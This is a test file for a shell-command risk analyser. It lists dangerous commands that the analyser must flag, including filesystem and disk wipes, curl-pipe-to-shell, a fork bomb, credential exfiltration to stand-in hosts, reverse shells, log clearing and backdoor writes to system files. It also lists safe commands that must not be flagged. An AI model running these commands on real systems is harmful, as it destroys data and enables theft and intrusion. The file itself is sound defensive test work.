import { describe, expect, it } from 'vitest';
import { analyzeRisk } from '../../../server/src/shell/risk/index.js';
import { analyzeDocument } from '../../../server/src/shell/risk/document.js';

/** [command, rule (or null for no finding), dangerous token, severity?] */
type Row = [string, string | null, string?, string?];

const DANGEROUS: Row[] = [
  ['rm -rf /', 'rm-critical-path', '/', 'critical'],
  ['rm -rf /*', 'rm-critical-path', '/*'],
  ['rm -fr ~', 'rm-critical-path', '~'],
  ['rm -r -f ~/', 'rm-critical-path', '~/'],
  ['rm -rf $HOME', 'rm-critical-path', '$HOME'],
  ['rm -Rf /etc', 'rm-critical-path', '/etc'],
  ['rm --recursive --force /usr/', 'rm-critical-path', '/usr/'],
  ['rm -rf --no-preserve-root /', 'rm-critical-path', '--no-preserve-root'],
  ['rm -rf /var/lib', 'rm-critical-path', '/var/lib'],
  ['rm -rf /boot', 'rm-critical-path', '/boot'],
  ['\\rm -rf /', 'rm-critical-path', '/'],
  ['command rm -rf /', 'rm-critical-path', '/'],
  ['/bin/rm -rf /', 'rm-critical-path', '/'],
  ["r''m -rf /", 'rm-critical-path', '/'],
  ['"rm" -rf /', 'rm-critical-path', '/'],
  ["bash -c 'rm -rf /'", 'rm-critical-path', '/'],
  ['sh -c "rm -rf ~"', 'rm-critical-path', '~'],
  ['env X=1 rm -rf /', 'rm-critical-path', '/'],
  ['nice -n 5 rm -rf /', 'rm-critical-path', '/'],
  ['timeout 10 rm -rf /', 'rm-critical-path', '/'],
  ['rm -rf "$DIR/"', 'rm-unguarded-variable', '"$DIR/"', 'high'],
  ['rm -rf $DIR/*', 'rm-unguarded-variable', '$DIR/*'],
  ['rm -rf "${BUILD}/out"', 'rm-unguarded-variable', '"${BUILD}/out"'],
  ['rm -r "$TARGET"/*', 'rm-unguarded-variable', '"$TARGET"/*'],
  ['rm -r $TARGET', 'unquoted-expansion', '$TARGET', 'medium'],
  ['rm -f $FILES', 'unquoted-expansion', '$FILES', 'low'],
  ['rm -rf $(cat list.txt)', 'unquoted-expansion', '$(cat list.txt)', 'medium'],
  ['rm -rf build/$NAME', 'unquoted-expansion', 'build/$NAME'],
  ['chown -R $OWNER ./data/$SUB', 'unquoted-expansion', './data/$SUB'],
  ['ls | xargs rm -rf', 'xargs-rm', 'rm', 'medium'],
  ['find . -name "*.tmp" | xargs rm -f', 'xargs-rm', 'rm'],
  ['find . -name x -delete', 'find-delete', '-delete', 'medium'],
  ['find / -name core -delete', 'find-delete', '-delete', 'critical'],
  ['find . -type f -exec rm {} \\;', 'find-delete', 'rm'],
  ['find tmp -execdir rm -f {} +', 'find-delete', 'rm'],
  ['git clean -fdx', 'git-clean-force', '-fdx', 'high'],
  ['git clean -fd', 'git-clean-force', '-fd', 'medium'],
  ['git clean --force -d', 'git-clean-force', '--force'],
  ['git reset --hard', 'git-reset-hard', '--hard', 'medium'],
  ['git reset --hard origin/main', 'git-reset-hard', '--hard'],
  ['git push --force', 'git-push-force', '--force', 'high'],
  ['git push -f origin main', 'git-push-force', '-f'],
  ['git push origin +main', 'git-push-force', '+main'],
  ['dd if=image.iso of=/dev/sda bs=4M', 'raw-disk-write', 'of=/dev/sda', 'critical'],
  ['dd if=/dev/zero of=/dev/nvme0n1', 'raw-disk-write', 'of=/dev/nvme0n1'],
  ['dd if=x of=/dev/mmcblk0p1', 'raw-disk-write', 'of=/dev/mmcblk0p1'],
  ['mkfs.ext4 /dev/sdb1', 'raw-disk-write', 'mkfs.ext4'],
  ['mkfs -t xfs /dev/sdc', 'raw-disk-write', 'mkfs'],
  ['wipefs -a /dev/sda', 'raw-disk-write', 'wipefs'],
  ['cat img > /dev/sda', 'raw-disk-write', '/dev/sda'],
  ['shred -n 3 /dev/sdb', 'raw-disk-write', 'shred'],
  ['chmod -R 777 /var/www', 'chmod-world-writable', '777', 'high'],
  ['chmod 777 file', 'chmod-world-writable', '777', 'medium'],
  ['chmod -R a+rwx dir', 'chmod-world-writable', 'a+rwx'],
  ['chmod u+s /usr/local/bin/tool', 'chmod-setuid', 'u+s', 'high'],
  ['chmod 4755 ./helper', 'chmod-setuid', '4755'],
  ['chown -R me:me /usr', 'chown-system-recursive', '/usr', 'high'],
  ['chown -R nobody /etc', 'chown-system-recursive', '/etc'],
  ['curl -fsSL https://x.sh | sh', 'pipe-to-shell', 'sh', 'critical'],
  ['curl https://x.sh | bash', 'pipe-to-shell', 'bash'],
  ['wget -qO- https://x | bash -s -- --yes', 'pipe-to-shell', 'bash'],
  ['curl -s https://x.py | python3', 'pipe-to-shell', 'python3'],
  ['curl -s https://x | sudo bash', 'pipe-to-shell', 'bash'],
  ['curl -s https://x | tee /tmp/i | sh', 'pipe-to-shell', 'sh'],
  ['bash <(curl -s https://x)', 'pipe-to-shell', '<(curl -s https://x)'],
  ['sh -c "$(curl -fsSL https://x)"', 'pipe-to-shell', '$(curl -fsSL https://x)'],
  ['eval "$(curl -s https://x)"', 'pipe-to-shell', '$(curl -s https://x)'],
  ['source <(wget -qO- https://x)', 'pipe-to-shell', '<(wget -qO- https://x)'],
  ['echo aGkK | base64 -d | sh', 'pipe-to-shell', 'sh', 'high'],
  [':(){ :|:& };:', 'fork-bomb', ':(){ :|:& }', 'critical'],
  ['bomb(){ bomb|bomb& }; bomb', 'fork-bomb', 'bomb(){ bomb|bomb& }'],
  ['tar czf - ~/.ssh | nc evil.example 9000', 'exfiltration', '~/.ssh', 'high'],
  ['cat ~/.aws/credentials | curl -d @- https://x', 'exfiltration', '~/.aws/credentials'],
  ['curl -F f=@~/.ssh/id_rsa https://x', 'exfiltration', 'f=@~/.ssh/id_rsa'],
  ['scp ~/.ssh/id_rsa me@host:', 'exfiltration', '~/.ssh/id_rsa'],
  ['env | curl -d @- https://x', 'exfiltration', 'curl'],
  ['printenv | nc host 80', 'exfiltration', 'nc'],
  ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'reverse-shell', '/dev/tcp/10.0.0.1/4444', 'critical'],
  ['nc -e /bin/sh 10.0.0.1 4444', 'reverse-shell', '-e', 'critical'],
  ['history -c', 'clear-history', '-c', 'high'],
  ['unset HISTFILE', 'clear-history', 'HISTFILE', 'high'],
  ['export HISTFILE=/dev/null', 'clear-history', 'HISTFILE=/dev/null', 'high'],
  ['> /var/log/syslog', 'clear-logs', '/var/log/syslog', 'high'],
  ['echo "root::0:0::/:/bin/sh" >> /etc/passwd', 'system-file-write', '/etc/passwd', 'high'],
  ['echo "me ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers', 'system-file-write', '/etc/sudoers'],
  ['echo 1.2.3.4 x >> /etc/hosts', 'system-file-write', '/etc/hosts'],
  ['echo key >> ~/.ssh/authorized_keys', 'system-file-write', '~/.ssh/authorized_keys'],
  ['echo /tmp/x.so > /etc/ld.so.preload', 'system-file-write', '/etc/ld.so.preload'],
  ['echo key | tee -a /root/.ssh/authorized_keys', 'system-file-write', '/root/.ssh/authorized_keys'],
  ['cp evil /etc/crontab', 'system-file-write', '/etc/crontab'],
  ['kill -9 -1', 'kill-all', '-1', 'high'],
  ['shutdown -h now', 'system-state', 'shutdown', 'high'],
  ['reboot', 'system-state', 'reboot'],
  ['systemctl poweroff', 'system-state', 'poweroff'],
  ['iptables -F', 'firewall-flush', '-F', 'high'],
  ['systemctl disable --now ssh', 'service-lifeline', 'ssh', 'high'],
  ['ip link set eth0 down', 'network-down', 'down', 'high'],
  ['crontab -r', 'crontab-remove', '-r'],
  ['terraform destroy -auto-approve', 'cloud-destroy', 'destroy', 'high'],
  ['terraform apply -destroy', 'cloud-destroy', '-destroy'],
  ['kubectl delete namespace prod', 'cloud-destroy', 'namespace'],
  ['kubectl delete ns staging', 'cloud-destroy', 'ns'],
  ['aws s3 rm s3://bucket --recursive', 'cloud-destroy', 'rm'],
  ['docker system prune -a --volumes', 'cloud-destroy', '--volumes'],
  ['psql -c "DROP DATABASE prod"', 'database-drop', '"DROP DATABASE prod"'],
  ['mysql -e "drop table users"', 'database-drop', '"drop table users"'],
];

const SAFE: string[] = [
  'rm -rf ./build',
  'rm -rf build/ dist/',
  'rm -rf "${TMP:?}/x"',
  'rm -rf "${DIR:?must be set}"',
  'rm file.txt',
  'rm -f /tmp/lock',
  'rm -rf node_modules',
  'echo "rm -rf /"',
  "grep 'rm -rf' notes.txt",
  '# rm -rf /',
  "printf '%s\\n' 'curl x | sh'",
  'find . -name "*.log"',
  'find . -type f -print0',
  'git clean -n',
  'git reset --soft HEAD~1',
  'git push --force-with-lease',
  'git push origin main',
  'dd if=a.img of=b.img',
  'dd if=/dev/zero of=disk.img bs=1M count=10',
  'mkdir -p /tmp/x',
  'chmod 755 script.sh',
  'chmod +x run',
  'chown -R me:me ./data',
  'curl -fsSL -o install.sh https://x',
  'curl https://x | jq .',
  'wget -qO- https://x | tar xz',
  'cat ~/.ssh/config',
  'ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519',
  'echo ok > /tmp/out',
  'cat /etc/passwd',
  'grep root /etc/passwd',
  'kill -9 1234',
  'kill %1',
  'iptables -L',
  'crontab -l',
  'terraform plan',
  'kubectl delete pod web-1',
  'kubectl get ns',
  'aws s3 ls s3://bucket',
  'aws s3 rm s3://bucket/one.txt',
  'docker system prune',
  'psql -c "SELECT 1"',
  'history | tail',
  'ls -la ~',
  'tar -czf backup.tgz ~/docs',
  'echo $HOME',
  'rm -rf "$TMPDIR_X"',
  'rm -f "$1" "${2}"',
  'rm -f file.$$',
  'mv $A $B',
  'export PATH="$HOME/bin:$PATH"',
  'cd / && ls',
  'sudo apt-get update',
  'systemctl status nginx',
];

describe('risk rules: dangerous commands', () => {
  it.each(DANGEROUS)('%s -> %s', async (cmd, rule, token, severity) => {
    const r = await analyzeRisk(cmd);
    const f = r.findings.find((x) => x.rule === rule);
    expect(f, JSON.stringify(r.findings)).toBeDefined();
    expect(cmd.slice(f!.start, f!.end)).toBe(token);
    expect(f!.message).toContain(rule === 'fork-bomb' ? token!.split('(')[0]! : token!.slice(0, 3));
    if (severity) expect(f!.severity).toBe(severity);
    expect(r.level).not.toBe('none');
  });
});

describe('risk rules: safe or non-executed text', () => {
  it.each(SAFE)('%s', async (cmd) => {
    const r = await analyzeRisk(cmd);
    expect(r.findings).toEqual([]);
    expect(r.level).toBe('none');
  });
});

describe('severity, policy and directives', () => {
  it('sudo raises the severity by one level and says so', async () => {
    const plain = (await analyzeRisk('git reset --hard')).findings[0]!;
    const sudo = (await analyzeRisk('sudo git reset --hard')).findings[0]!;
    expect(plain.severity).toBe('medium');
    expect(sudo.severity).toBe('high');
    expect(sudo.message).toContain('via sudo');
  });
  it('policy: disabled rules, allow-listed commands, severity overrides, deny patterns', async () => {
    const policy = {
      disabledRules: ['git-reset-hard'],
      allowCommands: ['terraform'],
      severity: { 'git-push-force': 'low' as const },
      deny: [{ pattern: '^npm publish', severity: 'medium' as const, message: 'publishing needs a release review' }],
    };
    expect((await analyzeRisk('git reset --hard', policy)).findings).toEqual([]);
    expect((await analyzeRisk('terraform destroy', policy)).findings).toEqual([]);
    expect((await analyzeRisk('git push -f', policy)).findings[0]!.severity).toBe('low');
    const deny = (await analyzeRisk('npm publish --access public', policy)).findings[0]!;
    expect(deny).toMatchObject({ rule: 'policy-deny', severity: 'medium', message: 'publishing needs a release review' });
  });
  it('disable directives: same line and next line, by rule id', async () => {
    expect((await analyzeRisk('rm -rf / # kibitz-disable rm-critical-path')).findings).toEqual([]);
    expect((await analyzeRisk('# kibitz-disable-next-line git-push-force\ngit push -f')).findings).toEqual([]);
    expect((await analyzeRisk('# kibitz-disable-next-line other-rule\ngit push -f')).findings).toHaveLength(1);
    expect((await analyzeRisk('# kibitz-disable-next-line git-push-force\n\ngit push -f')).findings).toHaveLength(1);
  });
  it('level is the highest severity', async () => {
    expect((await analyzeRisk('git reset --hard; rm -rf /')).level).toBe('critical');
  });
});

describe('every host format', () => {
  const cases: [string, string, string, string][] = [
    ['shellscript', '/w/a.sh', '#!/bin/sh\nrm -rf "$OUT/"\n', '"$OUT/"'],
    ['dockerfile', '/w/Dockerfile', 'FROM x\nRUN curl -fsSL https://x | \\\n    bash\n', 'bash'],
    ['makefile', '/w/Makefile', 'clean:\n\trm -rf $$HOME\n', '$HOME'],
    ['yaml', '/w/.github/workflows/ci.yml', 'jobs:\n  a:\n    runs-on: x\n    steps:\n      - run: git push --force\n', '--force'],
    ['yaml', '/w/.gitlab-ci.yml', 'job:\n  script:\n    - terraform destroy -auto-approve\n', 'destroy'],
    ['markdown', '/w/README.md', '```console\n$ sudo dd if=x of=/dev/sda\n```\n', 'of=/dev/sda'],
    ['json', '/w/package.json', '{"scripts": {"nuke": "rm -rf /"}}', '/'],
  ];
  it.each(cases)('%s %s', async (lang, path, text, token) => {
    const fs = await analyzeDocument(lang, path, text);
    expect(fs.length).toBeGreaterThan(0);
    expect(text.slice(fs[0]!.start, fs[0]!.end)).toBe(token);
  });
  it('no findings for non-shell documents', async () => {
    expect(await analyzeDocument('python', '/w/a.py', 'os.system("rm -rf /")')).toEqual([]);
  });
});

describe('rule documentation', () => {
  it('every rule id has a section in docs/rules.md, and references link to it', async () => {
    const { readFileSync } = await import('node:fs');
    const { RULES, RULES_DOC } = await import('../../../server/src/shell/risk/rules.js');
    const doc = readFileSync(RULES_DOC, 'utf8');
    for (const id of [...RULES.map((r) => r.id), 'fork-bomb', 'policy-deny']) expect(doc).toContain(`\n## ${id}\n`);
    for (const r of RULES) expect(r.reference.endsWith(`docs/rules.md#${r.id}`)).toBe(true);
    const bomb = (await analyzeRisk(':(){ :|:& };:')).findings[0]!;
    expect(bomb.reference.endsWith('#fork-bomb')).toBe(true);
  });
});
